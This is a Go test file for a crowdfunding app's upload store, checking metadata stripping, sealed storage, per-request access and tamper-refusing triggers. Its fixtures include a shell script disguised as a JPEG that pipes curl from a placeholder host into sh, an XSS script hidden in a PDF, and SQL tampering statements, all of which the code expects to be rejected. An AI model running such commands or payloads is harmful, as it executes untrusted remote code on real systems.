package material

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"image/jpeg"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/carefund/carefund/internal/upload/uploadtest"

	"github.com/carefund/carefund/internal/apperr"
	"github.com/carefund/carefund/internal/campaign"
	"github.com/carefund/carefund/internal/campaign/campaigntest"
	"github.com/carefund/carefund/internal/keyring"
	"github.com/carefund/carefund/internal/store"
	"github.com/carefund/carefund/internal/store/storetest"
	"github.com/carefund/carefund/internal/upload"
	"github.com/carefund/carefund/internal/vault"
)

// fixture is a material store on a fresh database with one user and two
// draft requests of theirs.
type fixture struct {
	t    *testing.T
	db   *store.DB
	v    *vault.Vault
	s    Store
	a, b int64 // request ids
}

func newFixture(t *testing.T, db *store.DB) *fixture {
	t.Helper()
	keys := &keyring.Keys{}
	rand.Read(keys.Master[:])
	rand.Read(keys.Index[:])
	v := vault.New(keys)
	f := &fixture{t: t, db: db, v: v, s: Store{Vault: v}}
	user := f.user("alice")
	f.a = f.request(user)
	f.b = f.request(user)
	return f
}

// user inserts a user row directly: the sign-in flow is package account's.
func (f *fixture) user(name string) int64 {
	f.t.Helper()
	var id int64
	f.write(func(ctx context.Context, tx *store.Tx) error {
		var err error
		id, err = campaigntest.User(ctx, tx, f.v, name)
		return err
	})
	return id
}

func (f *fixture) request(user int64) int64 {
	f.t.Helper()
	var r campaign.Request
	f.write(func(ctx context.Context, tx *store.Tx) (err error) {
		r, err = campaign.Store{Vault: f.v}.CreateDraft(ctx, tx, user, campaign.Filing{Title: "求助"})
		return err
	})
	return r.ID
}

func (f *fixture) write(fn func(ctx context.Context, tx *store.Tx) error) {
	f.t.Helper()
	if err := f.try(fn); err != nil {
		f.t.Fatal(err)
	}
}

func (f *fixture) try(fn func(ctx context.Context, tx *store.Tx) error) error {
	ctx := context.Background()
	return f.db.Write(ctx, func(tx *store.Tx) error { return fn(ctx, tx) })
}

// add uploads b as material of kind k to request req; the reader is made
// inside the transaction, as callers must.
func (f *fixture) add(req int64, k Kind, b []byte) (Material, error) {
	var m Material
	err := f.try(func(ctx context.Context, tx *store.Tx) (err error) {
		m, err = f.s.Add(ctx, tx, req, k, bytes.NewReader(b), "file", "user:1")
		return err
	})
	return m, err
}

func (f *fixture) mustAdd(req int64, k Kind, b []byte) Material {
	f.t.Helper()
	m, err := f.add(req, k, b)
	if err != nil {
		f.t.Fatalf("Add %s: %v", k, err)
	}
	return m
}

func (f *fixture) list(req int64) []Material {
	f.t.Helper()
	var ms []Material
	f.write(func(ctx context.Context, tx *store.Tx) (err error) {
		ms, err = f.s.List(ctx, tx, req)
		return err
	})
	return ms
}

func (f *fixture) get(req, id int64) Material {
	f.t.Helper()
	var m Material
	f.write(func(ctx context.Context, tx *store.Tx) (err error) {
		m, err = f.s.Get(ctx, tx, req, id)
		return err
	})
	return m
}

func (f *fixture) open(req, id int64) (Material, []byte) {
	f.t.Helper()
	var m Material
	var b []byte
	f.write(func(ctx context.Context, tx *store.Tx) (err error) {
		m, b, err = f.s.Open(ctx, tx, req, id)
		return err
	})
	return m, b
}

// do runs one of the marking methods and returns its error.
func (f *fixture) do(fn func(ctx context.Context, tx *store.Tx, requestID, id int64, actor string) error, req, id int64, actor string) error {
	return f.try(func(ctx context.Context, tx *store.Tx) error { return fn(ctx, tx, req, id, actor) })
}

// exec runs raw SQL, bypassing the package, and returns its error.
func (f *fixture) exec(query string, args ...any) error {
	return f.try(func(ctx context.Context, tx *store.Tx) error {
		_, err := tx.ExecContext(ctx, query, args...)
		return err
	})
}

// wantErr fails unless err is an *apperr.Error with code and key.
func wantErr(t *testing.T, err error, code apperr.Code, key string) {
	t.Helper()
	e := apperr.As(err)
	if e == nil || e.Code != code || e.Key != key {
		t.Fatalf("error = %v, want %s %q", err, code, key)
	}
}

// Test files, built as in internal/upload's tests.
var (
	encodeJPEG     = uploadtest.JPEG
	encodePNG      = uploadtest.PNG
	jpegSeg        = uploadtest.JPEGSegment
	insertAfterSOI = uploadtest.InsertAfterSOI
	exifWithGPS    = uploadtest.EXIFWithGPS
)

const owner = "Zhang Xiaoming"

// gpsJPEG is a photo as a phone writes it: EXIF with GPS position and the
// owner's name, and a comment.
func gpsJPEG(t testing.TB) []byte {
	return insertAfterSOI(encodeJPEG(t, 64, 48), jpegSeg(0xE1, exifWithGPS(1, owner)),
		jpegSeg(0xFE, []byte("taken at 31 Huaihai Road")))
}

var minimalPDF = []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")

// R-PII-1, R-REQ-3: a photo goes in with its GPS position, owner and
// comment, and comes out with none of them, the same picture, typed by its
// content.
func TestAddStripsMetadata(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		in := gpsJPEG(t)
		for _, s := range []string{"Exif", owner, "Huaihai"} {
			if !bytes.Contains(in, []byte(s)) {
				t.Fatalf("the test photo lacks %q", s)
			}
		}
		m := f.mustAdd(f.a, Diagnosis, in)
		if m.ID == 0 || m.RequestID != f.a || m.Kind != Diagnosis || m.ContentType != string(upload.JPEG) ||
			m.UploadedBy != "user:1" || m.UploadedAt.IsZero() || !m.ReviewedAt.IsZero() || m.Withdrawn {
			t.Fatalf("Add = %+v", m)
		}
		got, out := f.open(f.a, m.ID)
		if got != m {
			t.Errorf("Open = %+v, want %+v", got, m)
		}
		for _, s := range []string{"Exif", owner, "Huaihai", "MM\x00*"} {
			if bytes.Contains(out, []byte(s)) {
				t.Errorf("the stored photo still holds %q", s)
			}
		}
		if m.Size != len(out) || m.Size >= len(in) {
			t.Errorf("Size = %d, content %d bytes, upload %d bytes", m.Size, len(out), len(in))
		}
		want, err := upload.Strip(upload.JPEG, in)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(out, want) {
			t.Errorf("Open returned other bytes than upload.Strip")
		}
		a, err := jpeg.Decode(bytes.NewReader(in))
		if err != nil {
			t.Fatal(err)
		}
		b, err := jpeg.Decode(bytes.NewReader(out))
		if err != nil {
			t.Fatalf("the stored photo does not decode: %v", err)
		}
		if a.Bounds() != b.Bounds() {
			t.Errorf("bounds %v, want %v", b.Bounds(), a.Bounds())
		}
		if got := f.get(f.a, m.ID); got != m {
			t.Errorf("Get = %+v, want %+v", got, m)
		}

		// PNG and PDF go in as well, typed by content.
		p := f.mustAdd(f.a, CostEstimate, encodePNG(t, 20, 10))
		d := f.mustAdd(f.a, IDDocument, minimalPDF)
		if p.ContentType != string(upload.PNG) || d.ContentType != string(upload.PDF) {
			t.Errorf("content types %s, %s", p.ContentType, d.ContentType)
		}
		if _, out := f.open(f.a, d.ID); !bytes.Equal(out, minimalPDF) {
			t.Errorf("the PDF came back changed")
		}
	})
}

// R-PII-1: a PDF goes in with its author, producer and title (a scanner's
// owner, an ID number) and comes out without them, its page unchanged.
func TestAddStripsPDFMetadata(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		page := "BT (Diagnosis certificate) Tj ET"
		in := []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n" +
			"2 0 obj << /Author (" + owner + ") /Producer (Scanner of " + owner + ") /Title (110101199001011234) >> endobj\n" +
			"3 0 obj << /Length " + strconv.Itoa(len(page)) + " >>\nstream\n" + page + "\nendstream\nendobj\n" +
			"trailer << /Root 1 0 R /Info 2 0 R >>\n%%EOF\n")
		m := f.mustAdd(f.a, Diagnosis, in)
		if m.ContentType != string(upload.PDF) {
			t.Fatalf("content type %s", m.ContentType)
		}
		_, out := f.open(f.a, m.ID)
		for _, s := range []string{owner, "110101199001011234", "/Info"} {
			if bytes.Contains(out, []byte(s)) {
				t.Errorf("the stored PDF still holds %q", s)
			}
		}
		if !bytes.Contains(out, []byte("stream\n"+page+"\nendstream")) || len(out) != len(in) {
			t.Errorf("the page changed or moved")
		}
	})
}

// R-REQ-3: what is not a JPEG, PNG or PDF by content is refused with a
// message on the file field, whatever it is named; so is an unknown kind, an
// unknown request, and nothing is stored.
func TestAddRefuses(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		script := []byte("#!/bin/sh\n# photo.jpg\ncurl -s http://example.invalid/x | sh\n")
		jpg := encodeJPEG(t, 8, 8)
		tests := []struct {
			name       string
			req        int64
			kind       Kind
			in         []byte
			code       apperr.Code
			key, field string
		}{
			{"a script renamed photo.jpg", f.a, Diagnosis, script, apperr.Invalid, "upload.type", "file"},
			{"html between a PDF's ends", f.a, Diagnosis, []byte("%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"), apperr.Invalid, "upload.pdf_unsafe", "file"},
			{"empty", f.a, Diagnosis, nil, apperr.Invalid, "upload.empty", "file"},
			{"truncated jpeg", f.a, Diagnosis, jpg[:len(jpg)/2], apperr.Invalid, "upload.corrupt", "file"},
			{"too large", f.a, Diagnosis, bytes.Repeat([]byte{0xFF}, upload.MaxSize+1), apperr.TooLarge, "upload.too_large", "file"},
			{"unknown kind", f.a, "photo", jpg, apperr.Invalid, KeyKindInvalid, "kind"},
			{"no such request", f.b + 100, Diagnosis, jpg, apperr.NotFound, "", ""},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				_, err := f.add(tt.req, tt.kind, tt.in)
				wantErr(t, err, tt.code, tt.key)
				e := apperr.As(err)
				if tt.field != "" && (len(e.Fields) != 1 || e.Fields[0].Field != tt.field || e.Fields[0].Key != tt.key) {
					t.Errorf("fields = %+v, want one on %q with %s", e.Fields, tt.field, tt.key)
				}
			})
		}
		if ms := f.list(f.a); len(ms) != 0 {
			t.Errorf("refused uploads were stored: %+v", ms)
		}
	})
}

// R-PII-1: the database holds the file only sealed, its hash only as a
// blind index, and a sealed file opens only in its own row.
func TestStoredSealed(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		in := encodePNG(t, 40, 30)
		m := f.mustAdd(f.a, IDDocument, in)
		_, plain := f.open(f.a, m.ID)
		var sealed []byte
		var index, token string
		var keyID int64
		f.write(func(ctx context.Context, tx *store.Tx) error {
			return tx.QueryRowContext(ctx, `SELECT content_sealed, content_index, seal_token, key_id
				FROM request_materials WHERE id = $1`, m.ID).Scan(&sealed, &index, &token, &keyID)
		})
		if len(sealed) != len(plain)+vault.Overhead {
			t.Errorf("sealed %d bytes, want %d", len(sealed), len(plain)+vault.Overhead)
		}
		// No 16-byte window of the file is in the stored column.
		for i := 0; i+16 <= len(plain); i += 8 {
			if bytes.Contains(sealed, plain[i:i+16]) {
				t.Fatalf("the stored column holds plain bytes %d..%d of the file", i, i+16)
			}
		}
		sum := sha256.Sum256(plain)
		plainHash := hex.EncodeToString(sum[:])
		if index == plainHash || index != f.v.BlindIndex(IndexDomain, plainHash) {
			t.Errorf("content_index is not the blind index of the file's hash")
		}
		// The same file for another request has the same index: duplicates
		// can be found without the hash.
		m2 := f.mustAdd(f.b, IDDocument, in)
		var index2 string
		f.write(func(ctx context.Context, tx *store.Tx) error {
			return tx.QueryRowContext(ctx, "SELECT content_index FROM request_materials WHERE id = $1", m2.ID).Scan(&index2)
		})
		if index2 != index {
			t.Errorf("the same file got two indexes")
		}
		// The sealed value does not open for another row or request.
		f.write(func(ctx context.Context, tx *store.Tx) error {
			key, err := f.v.Key(ctx, tx, keyID)
			if err != nil {
				return err
			}
			if _, err := key.Open(contentAAD(f.b, token), sealed); err == nil {
				t.Errorf("the content opens as another request's")
			}
			if b, err := key.Open(contentAAD(f.a, token), sealed); err != nil || !bytes.Equal(b, plain) {
				t.Errorf("the content does not open in its own place: %v", err)
			}
			return nil
		})
	})
}

// R-PII-1: material is reached only through its own request: under another
// request every method says NotFound.
func TestOtherRequestNotFound(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		m := f.mustAdd(f.a, Certificate, encodeJPEG(t, 8, 8))
		err := f.try(func(ctx context.Context, tx *store.Tx) error {
			_, err := f.s.Get(ctx, tx, f.b, m.ID)
			return err
		})
		wantErr(t, err, apperr.NotFound, "")
		err = f.try(func(ctx context.Context, tx *store.Tx) error {
			_, _, err := f.s.Open(ctx, tx, f.b, m.ID)
			return err
		})
		wantErr(t, err, apperr.NotFound, "")
		for name, fn := range map[string]func(context.Context, *store.Tx, int64, int64, string) error{
			"Withdraw": f.s.Withdraw, "MarkReviewed": f.s.MarkReviewed, "MarkPublished": f.s.MarkPublished,
		} {
			if err := f.do(fn, f.b, m.ID, "staff:1"); apperr.CodeOf(err) != apperr.NotFound {
				t.Errorf("%s under another request = %v, want NotFound", name, err)
			}
		}
		if ms := f.list(f.b); len(ms) != 0 {
			t.Errorf("List of request B = %+v", ms)
		}
		if got := f.get(f.a, m.ID); !got.ReviewedAt.IsZero() || got.Withdrawn {
			t.Errorf("a call under request B changed the material: %+v", got)
		}
	})
}

// R-REQ-3: a wrong file is superseded and withdrawn: lists hide it, it is
// kept, and it no longer counts as the kind it was.
func TestWithdraw(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		jpg := encodeJPEG(t, 8, 8)
		wrong := f.mustAdd(f.a, Diagnosis, jpg)
		other := f.mustAdd(f.a, IDDocument, jpg)
		if err := f.do(f.s.Withdraw, f.a, wrong.ID, "user:1"); err != nil {
			t.Fatal(err)
		}
		ms := f.list(f.a)
		if len(ms) != 1 || ms[0].ID != other.ID {
			t.Fatalf("List = %+v, want only %d", ms, other.ID)
		}
		wantErr(t, Missing(ms, []Kind{Diagnosis, IDDocument}), apperr.Invalid, KeyMissing)
		if got := f.get(f.a, wrong.ID); !got.Withdrawn {
			t.Errorf("Get of the withdrawn material = %+v", got)
		}
		if _, b := f.open(f.a, wrong.ID); len(b) == 0 {
			t.Errorf("the withdrawn material's content is gone")
		}
		if err := f.do(f.s.Withdraw, f.a, wrong.ID, "user:2"); err != nil {
			t.Errorf("withdrawing twice = %v", err)
		}
		var by string
		f.write(func(ctx context.Context, tx *store.Tx) error {
			return tx.QueryRowContext(ctx, "SELECT withdrawn_by FROM request_materials WHERE id = $1", wrong.ID).Scan(&by)
		})
		if by != "user:1" {
			t.Errorf("withdrawn_by = %q, want the first withdrawal's", by)
		}
		replaced := f.mustAdd(f.a, Diagnosis, jpg)
		if err := Missing(f.list(f.a), []Kind{Diagnosis, IDDocument}); err != nil {
			t.Errorf("after the new upload Missing = %v", err)
		}
		if ms := f.list(f.a); len(ms) != 2 || ms[0].ID != other.ID || ms[1].ID != replaced.ID {
			t.Errorf("List = %+v, want %d then %d", ms, other.ID, replaced.ID)
		}
	})
}

// At most MaxPerRequest live materials per request; a withdrawn one makes
// room.
func TestTooMany(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		pn := encodePNG(t, 4, 4)
		var first Material
		f.write(func(ctx context.Context, tx *store.Tx) error {
			for i := range MaxPerRequest {
				m, err := f.s.Add(ctx, tx, f.a, Other, bytes.NewReader(pn), "file", "user:1")
				if err != nil {
					return err
				}
				if i == 0 {
					first = m
				}
			}
			return nil
		})
		_, err := f.add(f.a, Other, pn)
		wantErr(t, err, apperr.Conflict, KeyTooMany)
		f.mustAdd(f.b, Other, pn) // another request is not affected
		if err := f.do(f.s.Withdraw, f.a, first.ID, "user:1"); err != nil {
			t.Fatal(err)
		}
		f.mustAdd(f.a, Other, pn)
		if n := len(f.list(f.a)); n != MaxPerRequest {
			t.Errorf("%d live materials, want %d", n, MaxPerRequest)
		}
	})
}

// Add rewinds a seekable reader, so that a transaction run again reads the
// whole file.
func TestAddRewinds(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		r := bytes.NewReader(encodeJPEG(t, 8, 8))
		io.Copy(io.Discard, r) // as a first attempt would leave it
		f.write(func(ctx context.Context, tx *store.Tx) error {
			_, err := f.s.Add(ctx, tx, f.a, Diagnosis, r, "file", "user:1")
			return err
		})
	})
}

// R-REQ-4: a certificate is published only after it was reviewed; marks are
// set once; nothing but a certificate or expense list is ever published
// (R-PUB-1), and published material is not withdrawn.
func TestMarks(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		jpg := encodeJPEG(t, 8, 8)
		cert := f.mustAdd(f.a, Certificate, jpg)
		wantErr(t, f.do(f.s.MarkPublished, f.a, cert.ID, "staff:1"), apperr.Conflict, KeyNotReviewed)
		if got := f.get(f.a, cert.ID); !got.PublishedAt.IsZero() {
			t.Fatalf("published before review: %+v", got)
		}
		if err := f.do(f.s.MarkReviewed, f.a, cert.ID, "staff:1"); err != nil {
			t.Fatal(err)
		}
		if err := f.do(f.s.MarkReviewed, f.a, cert.ID, "staff:2"); err != nil {
			t.Errorf("MarkReviewed again = %v, want nil", err)
		}
		got := f.get(f.a, cert.ID)
		if got.ReviewedBy != "staff:1" || got.ReviewedAt.IsZero() {
			t.Errorf("after two reviews %+v, want the first reviewer", got)
		}
		if err := f.do(f.s.MarkPublished, f.a, cert.ID, "staff:3"); err != nil {
			t.Fatal(err)
		}
		if err := f.do(f.s.MarkPublished, f.a, cert.ID, "staff:4"); err != nil {
			t.Errorf("MarkPublished again = %v, want nil", err)
		}
		got = f.get(f.a, cert.ID)
		if got.PublishedBy != "staff:3" || got.PublishedAt.IsZero() {
			t.Errorf("after publishing %+v", got)
		}
		o := Opening(f.list(f.a), campaign.Opening{Target: campaign.CapFen + 1})
		if err := campaign.CanOpenFundraising(o); err != nil {
			t.Errorf("R-REQ-4 with a reviewed, published certificate: %v", err)
		}
		wantErr(t, f.do(f.s.Withdraw, f.a, cert.ID, "user:1"), apperr.Conflict, KeyPublished)

		id := f.mustAdd(f.a, IDDocument, jpg)
		if err := f.do(f.s.MarkReviewed, f.a, id.ID, "staff:1"); err != nil {
			t.Fatal(err)
		}
		wantErr(t, f.do(f.s.MarkPublished, f.a, id.ID, "staff:1"), apperr.Conflict, KeyNotPublishable)

		list := f.mustAdd(f.a, ExpenseList, jpg)
		if err := f.do(f.s.Withdraw, f.a, list.ID, "user:1"); err != nil {
			t.Fatal(err)
		}
		wantErr(t, f.do(f.s.MarkReviewed, f.a, list.ID, "staff:1"), apperr.Conflict, KeyWithdrawn)
	})
}

// R-PII-1, integrity: the database itself refuses to delete material, to
// change what was uploaded or under which key, and to change or clear a
// mark once set, whatever code runs against it.
func TestTriggers(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		m := f.mustAdd(f.a, Certificate, encodeJPEG(t, 8, 8))
		other := f.mustAdd(f.b, Diagnosis, encodeJPEG(t, 8, 8))
		if err := f.do(f.s.MarkReviewed, f.a, m.ID, "staff:1"); err != nil {
			t.Fatal(err)
		}
		if err := f.do(f.s.Withdraw, f.b, other.ID, "user:1"); err != nil {
			t.Fatal(err)
		}
		id := strconv.FormatInt(m.ID, 10)
		refused := []string{
			"DELETE FROM request_materials WHERE id = " + id,
			"UPDATE request_materials SET content_sealed = $1 WHERE id = " + id,
			"UPDATE request_materials SET content_sealed = (SELECT content_sealed FROM request_materials WHERE id = " +
				strconv.FormatInt(other.ID, 10) + ") WHERE id = " + id,
			"UPDATE request_materials SET key_id = (SELECT key_id FROM request_materials WHERE id = " +
				strconv.FormatInt(other.ID, 10) + ") WHERE id = " + id,
			"UPDATE request_materials SET seal_token = '" + strings.Repeat("0", 32) + "' WHERE id = " + id,
			"UPDATE request_materials SET request_id = " + strconv.FormatInt(f.b, 10) + " WHERE id = " + id,
			"UPDATE request_materials SET kind = 'diagnosis' WHERE id = " + id,
			"UPDATE request_materials SET content_index = '" + strings.Repeat("a", 64) + "' WHERE id = " + id,
			"UPDATE request_materials SET size_bytes = 1 WHERE id = " + id,
			"UPDATE request_materials SET uploaded_by = 'staff:9' WHERE id = " + id,
			"UPDATE request_materials SET reviewed_by = 'staff:9' WHERE id = " + id,
			"UPDATE request_materials SET reviewed_by = NULL, reviewed_at = NULL WHERE id = " + id,
			"UPDATE request_materials SET withdrawn_by = NULL, withdrawn_at = NULL WHERE id = " + strconv.FormatInt(other.ID, 10),
			// A diagnosis is never published, and nothing unreviewed is.
			"UPDATE request_materials SET reviewed_by = 's', reviewed_at = 1, published_by = 's', published_at = 1, " +
				"withdrawn_by = NULL, withdrawn_at = NULL WHERE id = " + strconv.FormatInt(other.ID, 10),
		}
		for _, q := range refused {
			var args []any
			if strings.Contains(q, "$1") {
				args = append(args, []byte{1, 2, 3})
			}
			if err := f.exec(q, args...); err == nil {
				t.Errorf("the database accepted: %s", q)
			}
		}
		if db.Dialect() == store.Postgres {
			if err := f.exec("TRUNCATE request_materials CASCADE"); err == nil {
				t.Errorf("the database accepted TRUNCATE")
			}
		}
		f.write(func(ctx context.Context, tx *store.Tx) error {
			// Still whole and openable.
			_, b, err := f.s.Open(ctx, tx, f.a, m.ID)
			if err != nil || len(b) == 0 {
				t.Errorf("after the refused changes Open = %v", err)
			}
			return nil
		})
		if got := f.get(f.a, m.ID); got.ReviewedBy != "staff:1" || got.Kind != Certificate {
			t.Errorf("after the refused changes %+v", got)
		}
		// Setting a mark not yet set is allowed: that is how the package works.
		if err := f.exec("UPDATE request_materials SET published_by = 'staff:2', published_at = 5 WHERE id = " + id); err != nil {
			t.Errorf("publishing a reviewed certificate: %v", err)
		}
	})
}

// TestPublicize: a certificate is published with the summary the public
// sees of it, never the file (R-REQ-4); the summary is required, bounded,
// written once, and the database refuses to change it afterwards.
func TestPublicize(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		cert := f.mustAdd(f.a, Certificate, encodePNG(t, 8, 8))
		publicize := func(summary string) error {
			return f.try(func(ctx context.Context, tx *store.Tx) error {
				return f.s.Publicize(ctx, tx, f.a, cert.ID, summary, "staff:1")
			})
		}
		if err := f.do(f.s.MarkReviewed, f.a, cert.ID, "staff:1"); err != nil {
			t.Fatal(err)
		}
		wantErr(t, publicize("  "), apperr.Invalid, KeySummaryRequired)
		wantErr(t, publicize(strings.Repeat("证", MaxSummary+1)), apperr.Invalid, KeySummaryLong)
		if got := f.get(f.a, cert.ID); !got.PublishedAt.IsZero() {
			t.Fatal("a refused summary published the certificate")
		}
		const summary = "某医院 2026 年 11 月出具：预计治疗总费用 65 万元。"
		if err := publicize(summary); err != nil {
			t.Fatal(err)
		}
		if err := publicize("另一段说明"); err != nil {
			t.Errorf("publicizing again = %v, want nil", err)
		}
		if got := f.get(f.a, cert.ID); got.PublicSummary != summary || got.PublishedAt.IsZero() {
			t.Errorf("after publicizing: summary %q, published %v", got.PublicSummary, got.PublishedAt)
		}
		if err := f.exec("UPDATE request_materials SET public_summary = 'changed' WHERE id = $1", cert.ID); err == nil {
			t.Error("the database let a published summary change")
		}
	})
}
